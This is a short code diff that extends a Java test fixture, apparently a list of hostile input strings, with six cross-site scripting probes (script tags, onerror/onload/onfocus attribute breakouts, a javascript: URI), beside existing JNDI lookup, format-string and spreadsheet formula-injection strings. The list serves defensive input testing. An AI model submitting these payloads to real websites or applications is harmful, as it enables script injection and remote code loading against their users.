@@ -45,7 +45,13 @@ final class HostileTexts {
           "${jndi:ldap://192.0.2.1/x}",
           "%n%s%x{}",
           "|=1",
-          "; =1 - | +1 ; @a");
+          "; =1 - | +1 ; @a",
+          "<script>alert(1)</script>",
+          "\"><img src=x onerror=alert(1)>",
+          "' autofocus onfocus='alert(1)",
+          "]]></style><svg onload=alert(1)>",
+          "javascript:alert(1)",
+          "&lt;script&gt;alert(1)&lt;/script&gt;");
 
   private HostileTexts() {}
 
